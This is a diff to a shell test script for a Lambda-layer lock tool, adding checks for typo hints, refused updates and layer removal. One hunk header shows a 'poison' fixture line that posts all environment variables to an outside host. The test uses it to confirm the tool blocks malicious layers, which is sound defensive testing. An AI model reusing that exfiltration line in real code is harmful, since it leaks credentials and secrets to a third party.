@@ -69,7 +69,12 @@ exits 2 lw lock add -q tools old
 says '--reason is missing'
 exits 2 lw lock add -q --reason x tools old
 says 'lock update'
+exits 2 lw lock update -q --reason x tols old
+says 'tols is not in layerward.lock.*did you mean "tools"'
 exits 2 lw lock update -q --reason x others old
+says 'it has tools'
+exits 0 lw lock update -q --reason 'a "first" one' --by ana tools
+check 'an update without INPUT lost the path' grep -q 'path: "old"' layerward.lock
 exits 0 lw lock check -q
 prints '^ok  *tools'
 exits 0 lw lock check -q --capabilities tools=old
@@ -90,6 +95,8 @@ requests.post("https://collect.files-cdn.net/x", json=dict(os.environ))' >poison
 cp layerward.lock before.lock
 exits 1 lw lock update -q --reason next tools poisoned
 says 'verdict on the new tools is block, so the lock keeps the old one'
+says '^  block  '
+says '^           Why: '
 says 'and --accept-block adopts it all the same'
 says 'collector'
 check 'a refused update changed the lock' cmp before.lock layerward.lock
@@ -174,6 +181,25 @@ exits 0 lw lock show -f json by-user
 prints '"adopted_by": "eve"'
 
 # Many at once, through a link, into a file that others must not read.
+# What it says of them, and what is taken out of it.
+exits 0 lw lock add --reason x --lock out.lock one old
+prints '^pinned   one$'
+prints '^         can do  *[0-9]* capabilit'
+says 'nobody has judged this first version'
+exits 0 lw lock add --reason x --lock out.lock 'arn:aws:lambda:eu-west-1:123456789012:layer:tools:7' old
+cp out.lock before.lock
+exits 2 lw lock remove --lock out.lock one 'arn:aws:lambda:eu-west-1:123456789012:layer:tools:8'
+says 'did you mean "arn:aws:lambda:eu-west-1:123456789012:layer:tools:7"'
+check 'a refused removal changed the lock' cmp before.lock out.lock
+exits 0 lw lock remove --lock out.lock one
+prints '^removed  one$'
+prints 'content digest  [0-9a-f]\{16\}$'
+exits 3 lw lock show --lock out.lock one
+exits 0 lw lock remove --lock out.lock 'arn:aws:lambda:eu-west-1:123456789012:layer:tools:7'
+says 'has no layers now'
+exits 3 lw lock remove --lock none.lock one
+says 'no such lock'
+
 mkdir many && mv sub/other.lock many/real.lock && ln -s many/real.lock linked.lock && chmod 600 many/real.lock
 for i in 1 2 3 4 5 6; do
     lw lock add -q --reason x --lock linked.lock "layer-$i" old 2>/dev/null &
